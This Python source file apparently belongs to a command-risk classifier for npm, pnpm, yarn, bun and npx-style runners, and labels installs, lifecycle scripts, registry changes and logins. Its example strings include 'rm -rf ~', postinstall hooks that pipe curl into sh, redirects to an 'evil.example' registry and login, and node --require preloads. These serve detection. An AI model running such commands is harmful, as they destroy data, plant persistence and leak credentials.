"""npm, pnpm, yarn, bun and their runners (npx, bunx, pnpx): installs, lifecycle scripts, what they run."""
from __future__ import annotations

import os

from wispsh.programs.grammar import UNKNOWN
from wispsh.programs.packages import SHORTHAND, VCS_SOURCE, index_options, install_specs, judge_index, judge_spec
from wispsh.programs.sources import host_of, index_is_known, project_names
from wispsh.programs.table import Grammar, Program, Row, When, emits, programs, verb
from wispsh.support.lazyre import lazy_re, re

# ---------------------------------------------------------------- npm, pnpm, yarn, bun and their runners

NPM_VALUES = ("registry", "prefix", "workspace", "w", "userconfig", "globalconfig", "cache", "tag", "otp", "scope",
              "filter", "dir", "cwd", "C", "script-shell", "node-options", "location")
NPM_GRAMMAR = Grammar(values="wC", long_values=NPM_VALUES, longs=("version", "help", "global", "save-dev"))
NPX_GRAMMAR = Grammar(values="pcwC", long_values=NPM_VALUES + ("package", "call"), longs=("yes", "no", "quiet"),
                      stop=True)
RUNS_ANYTHING = frozenset({"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "busybox",
                           "node", "python", "python3", "perl", "ruby", "deno", "bun", "pwsh"})
STEERING_CONFIG = lazy_re(r"registry|script-shell|node-options|git|proxy|cafile|strict-ssl|ignore-scripts|prefix",
                          re.I)
# Dev tools a project installs and runs through npx (`npx tsc`, `npx eslint .`): the project's own binaries
PROJECT_TOOLS = frozenset({
    "tsc", "eslint", "prettier", "jest", "vitest", "mocha", "webpack", "vite", "next", "nuxt", "tsx", "ts-node",
    "playwright", "cypress", "nodemon", "rollup", "esbuild", "turbo", "nx", "lerna", "changeset", "lint-staged",
    "stylelint", "tailwindcss", "prisma", "drizzle-kit", "storybook", "astro", "vue-tsc", "biome", "knip",
    "concurrently", "cross-env", "rimraf", "husky", "svelte-kit", "ng", "react-scripts", "expo", "wrangler",
})
_NPM_EXACT = lazy_re(r"v?\d+\.\d+\.\d+([-+][0-9A-Za-z.-]+)?")
# npm packages whose program has another name (their package.json "bin"): what npx runs is judged as that
# program (`npx -y @anthropic-ai/claude-code --dangerously-skip-permissions` is claude with its gate off)
NPM_BINS = {
    "@anthropic-ai/claude-code": "claude", "@google/gemini-cli": "gemini", "@openai/codex": "codex",
    "@github/copilot": "copilot", "@qwen-code/qwen-code": "qwen", "@sourcegraph/amp": "amp", "opencode-ai": "opencode",
    "@charmland/crush": "crush", "@vscode/vsce": "vsce", "@changesets/cli": "changeset", "@mikro-orm/cli": "mikro-orm",
    "sequelize-cli": "sequelize", "netlify-cli": "netlify", "firebase-tools": "firebase", "typescript": "tsc",
    "@angular/cli": "ng", "@nestjs/cli": "nest", "@railway/cli": "railway",
}


def _npm_version(spec: str) -> tuple[str, str | None]:
    """`@scope/pkg@1.2.3` -> ("@scope/pkg", "1.2.3"); no version -> (spec, None)."""
    at = spec.rfind("@")
    if at <= 0:
        return spec, None
    return spec[:at], spec[at + 1:]


@emits({"npx.package": ["npx -p typescript tsc", "npx --package=git+https://x.example/y tool"],
        "npx.call": ["npx -c 'rm -rf ~'", "npm exec --call='echo hi'"], "npx.call-runtime": ['npx -c "$CMD"'],
        "npx.runs-anything": ["npx bash", "npx node x.js"], "npx.runtime-program": ['npx "$TOOL"'],
        "npx.unpinned": ["npx -y pkg@latest", "npx cowsay hi", "bunx cowsay", "npx create-next-app@latest web"],
        "npx.pinned": ["npx cowsay@1.6.0 hi"], "npx.project-tool": ["npx tsc --noEmit", "npx prettier --check ."]})
def runs_package(cmd, o) -> None:
    """npx, bunx, `npm exec`, `pnpm dlx`: -p/--package packages are fetched, -c/--call is a shell command line,
    and the first operand is a package whose program runs with the other operands. Without a TTY npx installs
    what is missing without asking, so a package that is neither the project's nor pinned is whatever the
    registry serves today."""
    judge_index(cmd, o)
    for spec in o.all("p", "package"):
        judge_spec(cmd, spec)
        cmd.does("run-unpinned", "npx.package", f"{cmd.name} fetches {spec} and runs one of its programs")
    for text in o.all("c", "call"):
        if UNKNOWN in text:
            cmd.does("run-code", "npx.call-runtime", f"{cmd.name} --call runs a command known only at run time")
        else:
            cmd.fired.add("npx.call")
            cmd.code_text(text, f"{cmd.name} --call runs", at_least=("run-code", "npx.call"))
    if not o.operands:
        return
    program = o.operands[0]
    name, version = _npm_version(program)
    if program in RUNS_ANYTHING:
        cmd.does("run-code", "npx.runs-anything", f"{cmd.name} runs {program}, which runs anything")
    elif UNKNOWN in program:
        cmd.does("run-code", "npx.runtime-program", f"{cmd.name} runs a program known only at run time")
    elif "://" in program or VCS_SOURCE.search(program) or program.startswith((".", "/", "~", "file:")) or (
            version is None and SHORTHAND.fullmatch(program)):
        judge_spec(cmd, program)
    elif version is not None and _NPM_EXACT.fullmatch(version):
        cmd.does("install", "npx.pinned", f"{cmd.name} runs {program} from the registry")
    elif version is None and (name in PROJECT_TOOLS or os.path.exists(
            os.path.join(cmd.ctx.project_root, "node_modules", ".bin", name))):
        cmd.does("run-project", "npx.project-tool", f"{cmd.name} runs the project's {name}")
    else:
        cmd.does("run-unpinned", "npx.unpinned", f"{cmd.name} runs {program} as the registry serves it today (not "
                                                 f"pinned)")
    cmd.delegate_to = [NPM_BINS.get(name, name), *o.operands[1:]]


@emits({"yarn.exec.command": ["yarn exec rm -rf ~"]})
def yarn_exec(cmd, o) -> None:
    """`yarn exec CMD…` runs CMD in a shell: the words are shell code, judged as such."""
    if o.args:
        cmd.fired.add("yarn.exec.command")
        cmd.code_text(" ".join(o.args), "yarn exec runs", at_least="run-project")


# Settings that name a program npm runs for every script (script-shell), a module node loads first (node-options
# --require) or code run at start-up (onload-script): saved in .npmrc, they are persistence like a lifecycle script.
# A shell of the system's own (`script-shell /bin/bash`) only changes which of its shells runs.
PROGRAM_CONFIG = frozenset({"script-shell", "onload-script", "git", "shell"})
SYSTEM_PROGRAM = lazy_re(r"^(?:/usr)?(?:/local)?/s?bin/[A-Za-z0-9_.+-]+$|^(?:ba|z|da|k|fi|tc|c)?sh$|^pwsh$|^git$")
PRELOADS = lazy_re(r"(?:^|\s)(?:-r|--require|--import|--loader|--experimental-loader)\b")


def _config_plants_program(key: str, value: str | None) -> bool:
    if value is None:
        return False
    if key in PROGRAM_CONFIG:
        return UNKNOWN in value or not SYSTEM_PROGRAM.match(value.strip("'\""))
    return key == "node-options" and (UNKNOWN in value or bool(PRELOADS.search(value)))


@emits({"npm.config.registry": ["npm config set registry https://evil.example", "npm set registry https://x.example",
                                "yarn config set npmRegistryServer https://evil.example",
                                "npm config set @corp:registry=https://evil.example/"],
        "npm.config.registry-known": ["npm config set registry https://registry.npmjs.org/"],
        "npm.config.steers": ["npm config set script-shell /bin/bash", "npm config set ignore-scripts false",
                              "npm config set node-options --max-old-space-size=4096"],
        "npm.config.runs": ["npm config set script-shell /tmp/x", "npm set script-shell ./sh",
                            "npm config set node-options '--require /tmp/x.js'",
                            "npm config set onload-script=/tmp/x.js"],
        "npm.config.set": ["npm config set fund false"]})
def npm_config_key(cmd, o) -> None:
    """`npm config set KEY VALUE` (or KEY=VALUE): a registry key says where every later install comes from;
    other keys say what runs scripts; the rest are plain settings."""
    words = list(o.operands)
    key, eq, value = (words[0] if words else "").partition("=")
    if not eq:
        value = words[1] if len(words) > 1 else None
        raw = list(o.args)
        if words and words[0] in raw and raw.index(words[0]) + 1 < len(raw):
            value = raw[raw.index(words[0]) + 1]        # `node-options '--require x'`: a value like an option
    if "registry" in key.lower() and value is not None:
        if UNKNOWN in value:
            cmd.does("steer", "npm.config.steers", f"{cmd.name} config sets {key} to something known only at run time")
        elif index_is_known(value):
            cmd.does("local-config", "npm.config.registry-known", f"{cmd.name} config sets {key} ({host_of(value)})")
        else:
            cmd.does("install-foreign", "npm.config.registry", f"{cmd.name} config makes every install use {value}: "
                                                               f"what it serves runs unreviewed")
    elif _config_plants_program(key.lower(), value):
        cmd.does("persist", "npm.config.runs", f"{cmd.name} config sets {key}: every later script or install runs "
                                               f"{(value or '').replace(UNKNOWN, '…')} (saved in .npmrc)")
    elif STEERING_CONFIG.search(key):
        cmd.does("steer", "npm.config.steers", f"{cmd.name} config changes {key} (where it installs from or what "
                                               f"it runs)")
    else:
        cmd.does("local-config", "npm.config.set", f"changes {cmd.name}'s config")


# npm's lifecycle scripts (docs.npmjs.com, "scripts"): what npm runs without being asked to by name. Every
# install runs the install ones; pack, publish, version and (npm 6) uninstall run theirs; and pre<X>/post<X>
# run around every `npm run X` (the X listed are the verbs and scripts projects have: not `preview`, `prettier`,
# `postcss`, which are names of their own).
NPM_INSTALL_SCRIPTS = r"(?:pre|post)?install|prepublish|(?:pre|post)?prepare|dependencies"
NPM_OTHER_LIFECYCLE = (r"prepublishOnly|prepack|postpack|(?:post)?publish|(?:pre|post)?version|(?:pre|post)?uninstall"
                       r"|(?:pre|post)(?:test|start|stop|restart|build|shrinkwrap|dev|lint|serve|deploy|compile|watch"
                       r"|bundle|release|format|typecheck|commit|push|ci)")
NPM_LIFECYCLE = lazy_re(rf"^(?:({NPM_INSTALL_SCRIPTS})|({NPM_OTHER_LIFECYCLE}))$")


def lifecycle_runs(name: str) -> str | None:
    """When npm runs the package.json script `name` on its own, or None for a script that runs only when named."""
    m = NPM_LIFECYCLE.match(name)
    if m is None:
        return None
    if m.group(1):
        return "npm runs it on every install"
    if name.startswith(("pre", "post")) and name not in ("prepublishOnly", "prepack", "postpack", "postpublish",
                                                         "preversion", "postversion", "preuninstall",
                                                         "postuninstall"):
        when, base = ("before", name[3:]) if name.startswith("pre") else ("after", name[4:])
        return f"npm runs it on its own {when} every `npm run {base}`"
    return "npm runs it on its own (npm pack, publish, version or uninstall)"


def _planted(cmd, name: str, value: str | None, rule: str = "npm.pkg") -> None:
    """One script set in package.json: a lifecycle script is persistence (levels.md: files that steer tools),
    any other an ordinary change of a project file (it runs only when someone names it)."""
    if UNKNOWN in name:
        cmd.does("persist", f"{rule}.lifecycle", f"{cmd.name} sets a script whose name is known only at run time")
        return
    runs = lifecycle_runs(name)
    if runs is not None:
        cmd.does("persist", f"{rule}.lifecycle", f"{cmd.name} plants the lifecycle script '{name}' ({runs})")
    else:
        cmd.does("change", f"{rule}.scripts", f"{cmd.name} sets the package.json script '{name}'")


@emits({"npm.pkg.lifecycle": ["npm pkg set scripts.postinstall='curl x|sh'", "npm pkg set scripts.pretest=x",
                              "npm pkg set 'scripts[prepare]=husky'"],
        "npm.pkg.scripts": ["npm pkg set scripts.test=jest", "npm pkg set scripts.preview='vite preview'"]})
def pkg_set_scripts(cmd, o) -> None:
    """`npm pkg set scripts.NAME=VALUE …`: each script it sets, judged by whether npm runs it on its own."""
    for word in o.operands:
        key, _, value = word.partition("=")
        if key.startswith("scripts.") or key.startswith("scripts[") and key.endswith("]"):
            _planted(cmd, key[8:].strip("[]'\""), value)


@emits({"npm.set-script.lifecycle": ["npm set-script prepare 'curl x | sh'"],
        "npm.set-script.scripts": ["npm set-script lint eslint"]})
def set_script(cmd, o) -> None:
    """`npm set-script NAME COMMAND` (npm 7-8): one script set in package.json."""
    if o.operands:
        _planted(cmd, o.operands[0], o.operands[1] if len(o.operands) > 1 else None, "npm.set-script")


NPM_INSTALL = verb(
    grammar=NPM_GRAMMAR,
    rows=(Row("npm.install.all", "install", "{cmd} installs the project's dependencies (their install scripts run)",
              When(operands=False), sets=("builds",), examples=("npm ci", "npm install")),),
    hook=install_specs,
)
NPM_EXEC = verb(
    grammar=NPX_GRAMMAR,
    rows=(Row("npm.exec", "install", "{cmd} runs a package from the registry", examples=("npm exec eslint",)),),
    hook=runs_package,
)
NPM_SET = verb(grammar=NPM_GRAMMAR, hook=npm_config_key)
NPM_RUNS = verb(rows=(Row("npm.runs", "run-project", "{cmd} runs project code", sets=("builds",),
                          examples=("npm test", "npm run build")),))
NPM_PUBLISH = verb(rows=(Row("npm.publish", "publish", "{cmd} publishes or changes your registry account",
                             examples=("npm publish", "npm owner add bob x")),))


@emits({"npm.login.sends": ["npm login", "npm adduser --registry=https://registry.npmjs.org/"],
        "npm.login.foreign": ["npm login --registry=https://npm.evil.example/",
                              "npm adduser --registry http://r.example"]})
def npm_login(cmd, o) -> None:
    """`npm login|adduser [--registry URL]`: the credentials typed (or fed on its input) go to the registry. The
    public registry, or one the project's .npmrc names, is where the project publishes; anywhere else the login
    is a network sink for what it is fed."""
    registry = o.value("registry") or "https://registry.npmjs.org/"
    host = host_of(registry) or registry
    if UNKNOWN not in registry and (index_is_known(registry) or project_names(cmd.ctx, host)):
        cmd.does("send", "npm.login.sends", f"{cmd.name} login sends your credentials to {host}")
        return
    cmd.does("send", "npm.login.foreign", f"{cmd.name} login sends your credentials to {host.replace(UNKNOWN, '…')}, "
                                          f"a registry the project does not name")
    cmd.send("-", f"{cmd.name} login sends")


NPM_LOGIN = verb(grammar=NPM_GRAMMAR, hook=npm_login)
NPM_TOKEN = verb(verbs={"create": verb(rows=(Row("npm.token.create", "credentials", "{cmd} mints a registry token",
                                                 sets=("secret",), examples=("npm token create --read-only",)),))},
                 read_only=("list", "ls"),
                 default=Row("npm.token.change", "local-config", "{cmd} revokes registry tokens",
                             examples=("npm token revoke 1234",)))
NPM_VERBS = {
    **dict.fromkeys(("install", "i", "in", "ins", "inst", "insta", "instal", "isnt", "isnta", "isntal", "add", "ci",
                     "clean-install", "install-clean", "update", "up", "upgrade", "udpate", "install-test", "it",
                     "install-ci-test", "cit"), NPM_INSTALL),
    **dict.fromkeys(("exec", "x", "dlx"), NPM_EXEC),
    **dict.fromkeys(("publish", "deprecate", "dist-tag", "owner", "access", "team", "logout", "org", "star",
                     "unstar", "hook", "npm-publish"), NPM_PUBLISH),
    **dict.fromkeys(("login", "adduser", "add-user"), NPM_LOGIN), "token": NPM_TOKEN,
    "unpublish": verb(rows=(Row("npm.unpublish", "destroy", "{cmd} deletes a published package",
                                examples=("npm unpublish x",)),)),
    **dict.fromkeys(("config", "c"), verb(
        verbs={"set": NPM_SET, "delete": NPM_SET}, read_only=("get", "list", "ls"),
        default=Row("npm.config", "local-config", "{cmd} changes npm's config", examples=("npm config edit",)))),
    "set": NPM_SET,
    "audit": verb(verbs={"fix": verb(rows=(Row("npm.audit.fix", "change", "{cmd} changes dependencies",
                                              examples=("npm audit fix",)),))}),
    "version": verb(rows=(Row("npm.version", "run-project", "{cmd} runs project code (version scripts)",
                              When(operands=True), examples=("npm version patch",), not_examples=("npm version",)),)),
    "set-script": verb(hook=set_script),
    "pkg": verb(
        verbs={"set": verb(hook=pkg_set_scripts, rows=(
            Row("npm.pkg.set", "change", "{cmd} changes package.json", examples=("npm pkg set name=x",)),))},
        read_only=("get",),
        default=Row("npm.pkg", "change", "{cmd} changes package.json", examples=("npm pkg delete x",))),
    **dict.fromkeys(("test", "t", "tst", "run", "run-script", "rum", "urn", "start", "stop", "restart", "build",
                     "rebuild", "rb", "dev", "lint", "format", "typecheck", "pack", "link", "ln", "init", "create",
                     "prune", "dedupe", "ddp", "uninstall", "remove", "rm", "r", "un", "unlink", "install-links",
                     "serve", "preview", "watch", "check", "generate", "setup", "patch", "import",
                     "upgrade-interactive"), NPM_RUNS),
}
NPM_READ_ONLY = ("ls", "list", "ll", "la", "view", "v", "info", "show", "outdated", "search", "help", "doctor", "fund",
                 "explain", "why", "root", "bin", "prefix", "query", "docs", "bugs", "repo", "home", "whoami", "ping",
                 "licenses", "config-get", "get", "sbom")


# npm's verbs that install or remove packages: with -g, --global or --location=global, in the global prefix
GLOBAL_VERBS = frozenset(word for word, node in NPM_VERBS.items() if node is NPM_INSTALL) | frozenset({
    "uninstall", "remove", "rm", "r", "un", "unlink"})


@emits({"npm.global": ["npm install -g some-cli", "npm i --global eslint", "npm install --location=global tsx",
                       "npm -g install x", "npm uninstall -g npm", "pnpm add -g typescript", "bun add -g x",
                       "npm update --location global"],
        "bun.inline": ["bun -e 'console.log(1)'", "bun --print 1+1"]})
def npm_program(cmd, o) -> None:
    """npm, pnpm, yarn, bun: the indexes they are told to use (index_options); a global install (-g, --global,
    --location=global), which puts the package's programs (a `tsc`, an `npm` of its choosing) on PATH for every
    later shell, outside the project; and bun's inline code (`bun -e CODE`, `bun --print CODE`), judged as
    `node -e`."""
    if cmd.name == "bun" and o.has("e", "eval", "p", "print"):
        cmd.fired.add("bun.inline")
        cmd.delegate_to = ["node", *cmd.args]
        return False
    index_options(cmd, o)
    seen = NPM_GRAMMAR.read(cmd.args)   # npm reads its options anywhere (`npm -g i x`, `npm i x -g`)
    verb = seen.operands[0] if seen.operands else ""
    if verb in GLOBAL_VERBS and (seen.has("g", "global") or seen.value("location") == "global"):
        cmd.does("system", "npm.global", f"{cmd.name} {verb} changes the global packages: their programs go on "
                                         f"PATH for every later shell, outside the project")
    return None


def _npm_like(name: str, installs_bare: bool, verbs: dict, default: Row, examples: dict) -> Program:
    rows = (Row(f"{name}.script-shell", "run-code", "{cmd} runs scripts with {value}",
                When(value=("script-shell", "node-options")), examples=(f"{name} --script-shell=/tmp/x run build",)),)
    if installs_bare:
        rows += (Row(f"{name}.install", "install", "{cmd} installs the project's dependencies",
                     When(operands=False, unless=("version", "v", "help", "h")), sets=("builds",), examples=(name,),
                     not_examples=(f"{name} -v",)),)
    # npm reads its options anywhere (`npm test --script-shell=F`, `npm run build --prefix DIR`); --prefix (-C),
    # pnpm's --dir (-C), yarn's and bun's --cwd name the package whose scripts run
    return Program(name, doc=f"{name}: JavaScript packages and project scripts", grammar=NPM_GRAMMAR, rows=rows,
                   hook=npm_program, chdir=("prefix", "C", "dir", "cwd"), anywhere=True,
                   verbs=verbs, read_only=NPM_READ_ONLY, default=default, examples=examples)


NPM = _npm_like("npm", False, NPM_VERBS, Row("npm.verb", "unknown", "{cmd}", examples=("npm frobnicate",)),
                {"npm ci": "moderate", "npm ls": "safe", "npm install github:x/y": "dangerous", "npm publish": "high",
                 "npm unpublish x": "dangerous", "npm --prefix ./web run build": "moderate",
                 "npm --prefix /tmp/x run build": "high", "npm run build --prefix ~/x": "high",
                 "npm test --script-shell=/tmp/x.sh": "high", "npm run build -- --prefix /tmp/x": "moderate",
                 "npm ls --prefix /tmp/x": "safe"})
SCRIPT = "{cmd} runs a project script"
PNPM = _npm_like("pnpm", True, NPM_VERBS,
                 Row("pnpm.script", "run-project", SCRIPT, sets=("builds",), examples=("pnpm storybook",)),
                 {"pnpm -C /tmp/x build": "high", "pnpm --dir packages/ui test": "moderate"})
BUN = _npm_like("bun", True, NPM_VERBS,
                Row("bun.script", "run-project", SCRIPT, sets=("builds",), examples=("bun frobnicate",)),
                {"bun --cwd /tmp/x run build": "high"})
YARN_GLOBAL = verb(read_only=("list", "bin", "dir"), default=Row(
    "yarn.global", "system", "{cmd} changes the global packages: their programs go on PATH for every later shell, "
                             "outside the project", examples=("yarn global add serve", "yarn global remove serve")))
# yarnpkg.com/cli/npm/publish: Yarn 2+'s registry verbs live under `yarn npm`
YARN_NPM = verb(verbs={"publish": NPM_PUBLISH, "tag": verb(read_only=("list",), default=Row(
                           "yarn.npm.tag", "publish", "{cmd} changes a published package's tags",
                           examples=("yarn npm tag add x@1.0.0 latest",))),
                       "login": NPM_LOGIN, "logout": NPM_PUBLISH},
                read_only=("info", "whoami", "audit"),
                default=Row("yarn.npm", "unknown", "{cmd}", examples=("yarn npm frobnicate",)))
YARN = _npm_like("yarn", True, {**NPM_VERBS, "exec": verb(rows=(Row("yarn.exec", "run-project", "yarn exec runs a "
                                                                    "command", examples=("yarn exec eslint",)),),
                                                          hook=yarn_exec), "global": YARN_GLOBAL, "npm": YARN_NPM},
                 Row("yarn.script", "run-project", SCRIPT, sets=("builds",), examples=("yarn storybook",)),
                 {"yarn": "moderate", "yarn --cwd /tmp/x build": "high"})


def _runner(name: str) -> Program:
    return Program(
        name, doc=f"{name}: fetches a package from the registry and runs its program",
        grammar=NPX_GRAMMAR,
        rows=(Row(f"{name}.runs", "install", "{cmd} runs a package from the registry", When(operands=True),
                  examples=(f"{name} cowsay",), not_examples=(name,)),
              Row(f"{name}.script-shell", "run-code", "{cmd} runs scripts with {value}",
                  When(value=("script-shell", "node-options")), examples=(f"{name} --script-shell=/tmp/x x",))),
        hook=runs_package,
    )


NPX, BUNX, PNPX = _runner("npx"), _runner("bunx"), _runner("pnpx")



PROGRAMS = programs(NPM, PNPM, YARN, BUN, NPX, BUNX, PNPX)
